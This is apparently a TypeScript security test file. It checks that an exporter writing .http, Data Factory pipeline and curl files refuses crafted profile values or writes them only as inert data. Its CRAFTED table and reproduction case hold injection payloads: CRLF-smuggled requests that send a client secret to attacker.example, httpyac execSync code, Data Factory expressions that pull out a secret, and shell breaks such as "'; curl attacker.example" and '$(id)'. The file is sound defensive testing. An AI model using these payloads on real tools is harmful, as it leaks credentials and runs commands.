// Security issue #13: crafted values in every field an export writes, into every format, both
// through exportFlow (validation first) and straight into each builder (no validation at all).
// A value may be refused (by validation, naming its field, or by a builder's own structural check)
// or written; when written, the output is parsed the way its reader parses it and compared with
// the export of a clean profile: the same requests, request lines and variables (.http), the same
// expressions in the same places and the same hosts (pipeline), the same lines, each value one
// quoted word that bash reads back as exactly the value (curl).
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { isValidationError } from '../../../src/core/errors/errors';
import { curlScript } from '../../../src/core/export/curl';
import { EXPORT_FORMATS, exportFlow, type ExportFormat, type ExportOptions } from '../../../src/core/export/index';
import { adfString, pipelineJson } from '../../../src/core/export/pipeline';
import { restClientFile, SECRET_VARIABLES } from '../../../src/core/export/restClient';
import type { ConnectionProfile } from '../../../src/core/model/profile';
import { sampleProfile } from '../extension/profilesFixtures';

const ATTACKER = 'attacker.example';

/** The values of the review, and the line breaks other readers know. */
const CRAFTED: readonly (readonly [string, string])[] = [
  ['CRLF and a second request', `\r\n\r\nPOST https://${ATTACKER}/steal HTTP/1.1\r\nHost: ${ATTACKER}\r\n\r\nclient_secret={{$processEnv EVENTSTREAM_FLOW_CLIENT_SECRET}}`],
  ['a ### request separator', `\n###\nPOST https://${ATTACKER}/`],
  ['a REST Client variable', '{{$processEnv EVENTSTREAM_FLOW_CLIENT_SECRET}}'],
  ['httpyac JavaScript', "{{require('child_process').execSync('id')}}"],
  ['a Data Factory interpolation', "@{activity('Get client secret').output.value}"],
  ['a Data Factory expression', `@concat('https://${ATTACKER}/', activity('Get client secret').output.value)`],
  ['an escaped interpolation run', "@@@{activity('Get client secret').output.value}"],
  ['a shell quote break', `'; curl ${ATTACKER} #`],
  ['a command substitution', '$(id)'],
  ['backticks', '`id`'],
  ['U+2028 and U+2029', `\u2028###\u2029POST https://${ATTACKER}/`],
  ['NEL and a lone CR', `\u0085###\rPOST https://${ATTACKER}/`],
  ['a query and a fragment', `?api-version=1#@{activity('Get client secret').output.value}`],
];

const BODY = '{"site": "@{pipeline().parameters.p}", "run": "@{pipeline().RunId}", "from": "@{pipeline().Pipeline}", "n": @{eventIndex()}, "m": "hello"}';
const CLEAN_OPTIONS: ExportOptions = { bodyTemplate: BODY, parameters: { p: 'Oslo' } };

type Mutation = (value: string) => { profile: ConnectionProfile; options: ExportOptions };

const base = sampleProfile();
const withProfile =
  (change: (value: string) => Partial<ConnectionProfile>): Mutation =>
  (value) => ({ profile: sampleProfile(change(value)), options: CLEAN_OPTIONS });
const kv = (change: Partial<ConnectionProfile['keyVault']>): Partial<ConnectionProfile> => ({ keyVault: { ...base.keyVault, ...change } });
const spAuth = { kind: 'servicePrincipal', tenantId: '72f988bf-86f1-41af-91ab-2d7cd011db47', clientId: '11111111-2222-4333-8444-555555555555', clientSecret: 'x' } as const;

/**
 * Each field an export writes, with the field validation names when it refuses it. Every crafted
 * value is invalid in a profile field (but the free-text name), so exportFlow must refuse those.
 */
const FIELDS: readonly (readonly [string, Mutation])[] = [
  ['name', withProfile((v) => ({ name: `Orders ${v}` }))],
  ['keyVault.vaultUrl', withProfile((v) => kv({ vaultUrl: `https://contoso-kv.vault.azure.net${v}` }))],
  ['keyVault.auth.tenantId', withProfile((v) => kv({ auth: { ...spAuth, tenantId: `${spAuth.tenantId}${v}` } }))],
  ['keyVault.auth.clientId', withProfile((v) => kv({ auth: { ...spAuth, clientId: `${spAuth.clientId}${v}` } }))],
  ['keyVault.auth.tenantId', withProfile((v) => kv({ auth: { kind: 'azureCli', tenantId: `${spAuth.tenantId}${v}` } }))],
  ['keyVault.clientIdSecret.name', withProfile((v) => kv({ clientIdSecret: { name: `pipeline-client-id${v}` } }))],
  ['keyVault.clientSecretSecret.version', withProfile((v) => kv({ clientSecretSecret: { name: 'pipeline-client-secret', version: `0123456789abcdef0123456789abcdef${v}` } }))],
  ['eventHubsToken.tenantId', withProfile((v) => ({ eventHubsToken: { tenantId: `${spAuth.tenantId}${v}`, endpointVersion: 'v2' } }))],
  ['eventHubsToken.tenantId', withProfile((v) => ({ eventHubsToken: { tenantId: `${spAuth.tenantId}${v}`, endpointVersion: 'v1' }, endpoint: { ...base.endpoint, auth: { kind: 'sas', keyName: 'k', key: 'key-value' } } }))],
  ['endpoint.namespace', withProfile((v) => ({ endpoint: { ...base.endpoint, namespace: `eventstream-1234abcd.servicebus.windows.net${v}` } }))],
  ['endpoint.namespace', withProfile((v) => ({ endpoint: { ...base.endpoint, namespace: `${v}eventstream-1234abcd.servicebus.windows.net` } }))],
  ['endpoint.eventHubName', withProfile((v) => ({ endpoint: { ...base.endpoint, eventHubName: `es_9abc0def${v}` } }))],
  ['authorityHost', withProfile((v) => ({ authorityHost: `https://login.microsoftonline.com${v}` }))],
  ['parameters.p', (v) => ({ profile: sampleProfile(), options: { bodyTemplate: BODY, parameters: { p: v } } })],
  ['body', (v) => ({ profile: sampleProfile(), options: { bodyTemplate: BODY.replace('"hello"', JSON.stringify(v)), parameters: { p: 'Oslo' } } })],
  ['body', (v) => ({ profile: sampleProfile(), options: { bodyTemplate: `${v}@{pipeline().parameters.p}${v}`, parameters: { p: 'Oslo' } } })],
  ['name', (v) => ({ profile: sampleProfile(), options: { ...CLEAN_OPTIONS, name: v } })],
];

const BUILDERS: Readonly<Record<ExportFormat, (profile: ConnectionProfile, options: ExportOptions) => string>> = {
  pipeline: pipelineJson,
  http: restClientFile,
  curl: curlScript,
};

/** Every line break some reader of these files knows. */
const ANY_LINE_BREAK = /\r\n|[\r\n\v\f\u0085\u2028\u2029]/;

function forFormat(format: ExportFormat, options: ExportOptions, profile: ConnectionProfile): ExportOptions {
  // The pipeline's service-principal mode writes the reader's tenant and client id too.
  return format === 'pipeline' && profile.keyVault.auth.kind === 'servicePrincipal' ? { ...options, keyVaultAuth: 'servicePrincipal' } : options;
}

// ---------------------------------------------------------------------------------------------
// .http: requests as REST Client and httpyac split them

const METHOD_LINE = /^\s*(GET|POST|PUT|DELETE|PATCH|HEAD|OPTIONS|CONNECT|TRACE|PROPFIND|PROPPATCH|MKCOL|COPY|MOVE|LOCK|UNLOCK|CHECKOUT|CHECKIN|REPORT|MERGE|MKACTIVITY|MKWORKSPACE|VERSION-CONTROL|BASELINE-CONTROL|MKCALENDAR|ACL|SEARCH|GRAPHQL)\s+/;

interface HttpFile {
  readonly lines: readonly string[];
  readonly separators: number;
  readonly requestLines: readonly string[];
  readonly variables: ReadonlyMap<string, string>;
  /** Every `{{…}}` of the file, in order. */
  readonly references: readonly string[];
  /** The lines of the last request's body, and the index of its first line. */
  readonly body: readonly string[];
  readonly bodyStart: number;
}

function parseHttp(text: string): HttpFile {
  const lines = text.split(ANY_LINE_BREAK);
  const variables = new Map<string, string>();
  for (const line of lines) {
    const match = /^@(\w+) = (.*)$/.exec(line);
    if (match?.[1] !== undefined && match[2] !== undefined) {
      variables.set(match[1], match[2]);
    }
  }
  const lastRequest = lines.length - 1 - [...lines].reverse().findIndex((line) => METHOD_LINE.test(line));
  const bodyStart = lines.indexOf('', lastRequest) + 1;
  return {
    lines,
    separators: lines.filter((line) => /^\s*#{3,}/.test(line)).length,
    requestLines: lines.filter((line) => METHOD_LINE.test(line)),
    variables,
    references: [...text.matchAll(/\{\{\s*(.+?)\s*\}\}/g)].map((m) => m[1] ?? ''),
    body: lines.slice(bodyStart).filter((line) => line !== ''),
    bodyStart,
  };
}

/** The body as httpyac sends it, with our system variables fixed, read as JSON. */
function httpBodyValue(file: HttpFile): unknown {
  const fixed: Record<string, string> = { runId: 'R', $guid: 'G', '$datetime iso8601': 'T' };
  const text = file.body.join('\n').replace(/\{\{(.+?)\}\}/g, (_m, name: string) => fixed[name] ?? file.variables.get(name) ?? `<${name}>`);
  return JSON.parse(text) as unknown;
}

function assertSafeHttp(text: string, clean: string, expected: { site?: string; m?: string }): void {
  const file = parseHttp(text);
  const reference = parseHttp(clean);
  assert.equal(file.lines.length, reference.lines.length, 'a value added or removed a line');
  assert.equal(file.separators, reference.separators, 'a value added a ### separator');
  assert.deepEqual(file.requestLines, reference.requestLines, 'a value added or changed a request line');
  assert.deepEqual(file.references, reference.references, 'a value added a {{…}} variable');
  assert.deepEqual([...file.variables.keys()], [...reference.variables.keys()]);
  for (const [name, value] of file.variables) {
    // httpyac substitutes, then reads the result again: no value may bring a brace.
    // Ours are fixed references (a system variable, a secret read when the request runs), the same for every profile.
    const ours = name === 'runId' || Object.values(SECRET_VARIABLES).includes(name as never);
    assert.ok(ours ? value === reference.variables.get(name) : !/[{}]/.test(value), `@${name} holds a brace: ${value}`);
    assert.ok(!/^\s|\s$/.test(value) || value === '', `@${name} has edge spaces`);
  }
  file.lines.forEach((line, index) => {
    const cleanLine = reference.lines[index] ?? '';
    if (line === cleanLine) {
      return;
    }
    const header = (l: string) => l.startsWith('# Eventstream Flow: the secure flow of profile "') && l.endsWith('" as REST Client requests.');
    const sameVariable = /^@(\w+) = /.exec(line)?.[1] !== undefined && /^@(\w+) = /.exec(line)?.[1] === /^@(\w+) = /.exec(cleanLine)?.[1];
    const inBody = index >= reference.bodyStart;
    assert.ok((header(line) && header(cleanLine)) || sameVariable || inBody, `line ${index + 1} changed: ${line}`);
  });
  for (const line of file.body) {
    assert.doesNotMatch(line, /^\s*([#<>@?&/]|\{\{|HTTP\/)/, `a body line a reader takes as an instruction: ${line}`);
  }
  // Only in a comment, a variable's value or the body's JSON strings (checked above and below).
  assert.ok(!file.lines.some((line, index) => line.includes(ATTACKER) && !(index >= file.bodyStart || line.startsWith('# ') || line.startsWith('@'))), 'the attacker host outside a literal');
  const body = httpBodyValue(file) as { site?: string; m?: string };
  for (const key of ['site', 'm'] as const) {
    if (expected[key] !== undefined) {
      assert.equal(body[key], expected[key], `the body's ${key} is not the value sent by the tested flow`);
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Pipeline: every expression Data Factory would evaluate, by JSON path

/** Whole-string expressions (a single leading @) and every `@{…}` not escaped by a preceding @. */
function expressionsIn(text: string): string[] {
  const found: string[] = [];
  if (text.startsWith('@') && !text.startsWith('@@') && !text.startsWith('@{')) {
    found.push(`whole string: ${text}`);
  }
  for (let at = text.indexOf('@{'); at >= 0; at = text.indexOf('@{', at + 2)) {
    if (text[at - 1] !== '@') {
      const end = text.indexOf('}', at);
      if (end < 0) {
        found.push(`unclosed: ${text.slice(at)}`);
        break;
      }
      found.push(text.slice(at + 2, end));
      at = end - 1;
    }
  }
  return found;
}

function stringsByPath(value: unknown, path = '$', out = new Map<string, string>()): Map<string, string> {
  if (typeof value === 'string') {
    out.set(path, value);
  } else if (Array.isArray(value)) {
    value.forEach((item, index) => stringsByPath(item, `${path}[${index}]`, out));
  } else if (value && typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) {
      stringsByPath(item, `${path}.${key}`, out);
    }
  }
  return out;
}

/** The string Data Factory makes of a value, our expressions left as ⟨…⟩ (per the documented rules). */
function adfLiteral(text: string): string {
  if (text.startsWith('@@') && !text.includes('@{')) {
    return text.slice(1);
  }
  // JSON-escaped: a parameter's expression (its JSON escaping) holds quotes and backslashes.
  return text.replace(/@\{([^}]*)\}/g, (_m, expression: string) => (expression === "'@'" ? '@' : `⟨${JSON.stringify(expression).slice(1, -1)}⟩`));
}

function assertSafePipeline(text: string, clean: string, expected: { m?: string }): void {
  const strings = stringsByPath(JSON.parse(text));
  const reference = stringsByPath(JSON.parse(clean));
  assert.deepEqual([...strings.keys()].filter((p) => !p.includes('.parameters.')), [...reference.keys()].filter((p) => !p.includes('.parameters.')));
  for (const [path, value] of strings) {
    const ours = (expressionsIn(reference.get(path) ?? '')).filter((e) => e !== "'@'");
    const found = expressionsIn(value).filter((e) => e !== "'@'");
    assert.deepEqual(found, ours, `${path}: an expression the exporter did not write: ${value}`);
    if (path.endsWith('.url')) {
      assert.equal(new URL(value).host, new URL(reference.get(path) ?? '').host, `${path}: another host`);
    }
  }
  for (const [path, value] of strings) {
    if (path.includes('.parameters.') && path.endsWith('.defaultValue')) {
      assert.deepEqual(expressionsIn(value), [], `${path}: a default read as an expression`);
    }
  }
  if (expected.m !== undefined) {
    const pipeline = JSON.parse(text) as { properties: { activities: { name: string; typeProperties: { body?: string } }[] } };
    const body = pipeline.properties.activities.find((a) => a.name === 'Send event')?.typeProperties.body ?? '';
    assert.equal((JSON.parse(adfLiteral(body)) as { m: string }).m, expected.m);
  }
}

// ---------------------------------------------------------------------------------------------
// curl: the same lines, and each value one quoted word bash reads back verbatim

/** What an assignment or a parameter default may be: single-quoted pieces, \' and $'\xHH…' (no expansion in any). */
const QUOTED_WORD = /^(?:'[^']*'|\\'|\$'(?:\\x[0-9a-f]{2}|\\n)+')+$/;
/** The expressions curlScript writes into BODY for BODY's template. */
const BODY_FRAGMENTS = ['"$(json_escape "$PARAM_p")"', '"$RUN_ID"', '"$(json_escape "$PIPELINE_NAME")"', '"0"'];

function valueWord(line: string): { name: string; word: string } | undefined {
  const parameter = /^if \[\[ -z "\$\{(PARAM_\w+)\+set\}" \]\]; then \1=(.*); fi$/.exec(line);
  if (parameter?.[1] !== undefined && parameter[2] !== undefined) {
    return { name: parameter[1], word: parameter[2] };
  }
  const assignment = /^([A-Z][A-Z0-9_]*)=(.*)$/.exec(line);
  return assignment?.[1] !== undefined && assignment[2] !== undefined ? { name: assignment[1], word: assignment[2] } : undefined;
}

function assertSafeCurl(text: string, clean: string, expected: { PARAM_p?: string; m?: string }): void {
  const lines = text.split(ANY_LINE_BREAK);
  const reference = clean.split(ANY_LINE_BREAK);
  assert.equal(lines.length, reference.length, 'a value added or removed a line');
  const names: string[] = [];
  lines.forEach((line, index) => {
    const cleanLine = reference[index] ?? '';
    const value = valueWord(line);
    if (value && !value.word.startsWith('$(') && !value.word.startsWith('$((') && !value.word.startsWith('${')) {
      names.push(value.name);
      assert.equal(value.name, valueWord(cleanLine)?.name, `line ${index + 1} assigns another variable`);
      const pieces = value.name === 'BODY' ? BODY_FRAGMENTS.reduce((parts, fragment) => parts.flatMap((part) => part.split(fragment)), [value.word]) : [value.word];
      for (const piece of pieces.filter((p) => p !== '')) {
        assert.match(piece, QUOTED_WORD, `line ${index + 1}: not one quoted word: ${line}`);
      }
      return;
    }
    if (line !== cleanLine) {
      const header = (l: string) => l.startsWith('# Eventstream Flow: the secure flow of profile "') && l.endsWith('" as curl calls.');
      assert.ok(header(line) && header(cleanLine), `line ${index + 1} changed: ${line}`);
    }
  });
  // bash reads the values back, with no command to run (PATH is empty): nothing may run, nothing may fail.
  const script = [
    'set -eu',
    "json_escape() { printf '%s' \"$1\"; }",
    'RUN_ID=R',
    ...lines.filter((line) => {
      const value = valueWord(line);
      return value !== undefined && names.includes(value.name);
    }),
    ...names.map((name) => `printf '%s\\0' "$${name}"`),
  ].join('\n');
  // --norc: bash reads ~/.bashrc when its stdin looks like a network connection (a Node pipe does).
  const run = spawnSync('/bin/bash', ['--norc', '--noprofile', '-c', script], { env: { PATH: '/nonexistent' }, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  assert.equal(run.stderr, '', 'bash printed an error: something ran');
  assert.equal(run.status, 0);
  const values = new Map(names.map((name, index) => [name, run.stdout.split('\0')[index] ?? '']));
  if (expected.PARAM_p !== undefined) {
    assert.equal(values.get('PARAM_p'), expected.PARAM_p);
  }
  if (expected.m !== undefined) {
    assert.equal((JSON.parse(values.get('BODY') ?? '') as { m: string }).m, expected.m);
  }
  assert.equal(spawnSync('/bin/bash', ['--norc', '--noprofile', '-n', '-c', text], { stdio: ['ignore', 'pipe', 'pipe'] }).status, 0, 'the script is not valid bash');
}

// ---------------------------------------------------------------------------------------------

/** Besides being safe, the value must arrive as the tested flow sends it: as data, unchanged. */
function assertSafe(format: ExportFormat, text: string, clean: string, value: string, field: string, options: ExportOptions): void {
  const jsonBody = field === 'body' && options.bodyTemplate?.startsWith('{') === true;
  const expected = { ...(field === 'parameters.p' ? { site: value, PARAM_p: value } : {}), ...(jsonBody ? { m: value } : {}) };
  if (format === 'http') {
    assertSafeHttp(text, clean, expected);
  } else if (format === 'pipeline') {
    assertSafePipeline(text, clean, expected);
  } else {
    assertSafeCurl(text, clean, expected);
  }
}

/** A refusal, or text; anything but a ValidationError is a failure of the test. */
function attempt(produce: () => string): { text: string } | { refused: { field: string } } {
  try {
    return { text: produce() };
  } catch (error) {
    assert.ok(isValidationError(error), `not a validation error: ${String(error)}`);
    return { refused: error };
  }
}

describe('exports with crafted values (#13)', () => {
  const tally = { validated: { refused: 0, written: 0 }, direct: { refused: 0, written: 0 } };

  for (const format of EXPORT_FORMATS) {
    for (const [field, mutate] of FIELDS) {
      it(`${format}: ${field}`, () => {
        for (const [label, value] of CRAFTED) {
          const { profile, options } = mutate(value);
          const { profile: cleanProfile, options: cleanOptions } = mutate('');
          const reference = attempt(() => BUILDERS[format](cleanProfile, forFormat(format, cleanOptions, cleanProfile)));
          if ('refused' in reference) {
            // A shape the format refuses even when clean (a body that is not JSON, for .http): refused crafted too.
            assert.throws(() => exportFlow(profile, format, forFormat(format, options, profile)), isValidationError);
            assert.throws(() => BUILDERS[format](profile, forFormat(format, options, profile)), isValidationError);
            tally.validated.refused++;
            tally.direct.refused++;
            continue;
          }
          const clean = reference.text;

          // (a) The public entry point: validation first, naming the field it refuses.
          const validated = attempt(() => exportFlow(profile, format, forFormat(format, options, profile)).text);
          const mustRefuse = !['name', 'body', 'parameters.p'].includes(field);
          assert.ok(!mustRefuse || 'refused' in validated, `${label}: exportFlow wrote a profile value validation refuses`);
          if ('refused' in validated) {
            tally.validated.refused++;
            const named = validated.refused.field;
            assert.ok(named === field || named.startsWith(`${field}.`) || (field === 'body' && named.startsWith('@{')), `${label}: refused, but naming ${named}`);
          } else {
            tally.validated.written++;
            assertSafe(format, validated.text, clean, value, field, options);
          }

          // (b) The builder alone, as if validation had let the value through.
          const direct = attempt(() => BUILDERS[format](profile, forFormat(format, options, profile)));
          if ('refused' in direct) {
            tally.direct.refused++;
          } else {
            tally.direct.written++;
            assertSafe(format, direct.text, clean, value, field, options);
          }
        }
      });
    }
  }

  it('both paths wrote some crafted values and refused others (the table is not vacuous)', () => {
    assert.ok(tally.validated.refused > 0 && tally.validated.written > 0, JSON.stringify(tally));
    assert.ok(tally.direct.refused > 0 && tally.direct.written > 0, JSON.stringify(tally));
  });
});

describe('the #13 reproduction', () => {
  const namespace = `eventstream-1234abcd.servicebus.windows.net\r\n\r\nPOST https://${ATTACKER}/ HTTP/1.1\r\n\r\n{{$processEnv EVENTSTREAM_FLOW_CLIENT_SECRET}}?x=#@{activity('Get client secret').output.value}`;
  const profile = sampleProfile({ endpoint: { ...sampleProfile().endpoint, namespace } });
  for (const format of EXPORT_FORMATS) {
    it(`${format}: refused through exportFlow naming endpoint.namespace, and by the builder alone`, () => {
      assert.throws(() => exportFlow(profile, format), (error: unknown) => isValidationError(error) && error.field === 'endpoint.namespace');
      assert.throws(() => BUILDERS[format](profile, {}), (error: unknown) => isValidationError(error) && error.field === 'endpoint.namespace');
    });
  }
});

describe('escaping helpers', () => {
  it('adfString: literal @ is never the start of an expression; ours are kept', () => {
    const cases: [Parameters<typeof adfString>[0], string][] = [
      [[{ literal: 'a@b.com' }], 'a@b.com'],
      [[{ literal: '@concat(1)' }], '@@concat(1)'],
      [[{ literal: "x@{activity('a')}" }], "x@{'@'}{activity('a')}"],
      [[{ literal: '@@{x}' }], "@{'@'}@{'@'}{x}"],
      [[{ literal: 'a@' }, { expression: 'guid()' }], "a@{'@'}@{guid()}"],
      [[{ literal: '@x' }, { expression: 'guid()' }], "@{'@'}x@{guid()}"],
      [[{ literal: 'x' }, { expression: 'guid()' }, { literal: '@' }], 'x@{guid()}@'],
    ];
    for (const [parts, written] of cases) {
      assert.equal(adfString(parts), written);
      const ours = parts.flatMap((p) => ('expression' in p ? [p.expression] : []));
      assert.deepEqual(expressionsIn(written).filter((e) => e !== "'@'"), ours);
    }
  });

  it('a pipeline parameter default that would read as an expression is refused, naming the parameter', () => {
    for (const value of ["@activity('Get client secret').output.value", "x@{activity('Get client secret').output.value}"]) {
      assert.throws(
        () => exportFlow(sampleProfile(), 'pipeline', { bodyTemplate: BODY, parameters: { p: value } }),
        (error: unknown) => isValidationError(error) && error.field === 'parameters.p',
      );
      // The other formats write it as data (the table above checks how).
      assert.doesNotThrow(() => exportFlow(sampleProfile(), 'curl', { bodyTemplate: BODY, parameters: { p: value } }));
      assert.doesNotThrow(() => exportFlow(sampleProfile(), 'http', { bodyTemplate: BODY, parameters: { p: value } }));
    }
  });

  it('.http refuses a body that is not JSON, naming the body', () => {
    assert.throws(
      () => exportFlow(sampleProfile(), 'http', { bodyTemplate: `hello\n###\nPOST https://${ATTACKER}/` }),
      (error: unknown) => isValidationError(error) && error.field === 'body' && /not JSON/.test(error.message),
    );
  });

  it('NUL in a body or a parameter is refused before any format is built', () => {
    for (const format of EXPORT_FORMATS) {
      assert.throws(() => exportFlow(sampleProfile(), format, { bodyTemplate: '{"a": "\u0000"}' }), (error: unknown) => isValidationError(error) && error.field === 'body');
      assert.throws(() => exportFlow(sampleProfile(), format, { bodyTemplate: BODY, parameters: { p: 'a\u0000b' } }), (error: unknown) => isValidationError(error) && error.field === 'parameters.p');
    }
  });
});
